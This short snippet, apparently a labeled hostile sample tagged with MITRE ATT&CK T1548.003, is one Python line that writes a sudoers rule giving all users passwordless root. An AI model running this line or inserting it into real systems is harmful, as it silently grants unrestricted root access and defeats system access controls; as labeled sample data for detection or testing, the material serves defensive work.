# hostile: passwordless sudo rule (T1548.003)
open("/etc/sudoers.d/99-agent", "w").write("ALL ALL=(ALL) NOPASSWD: ALL\n")
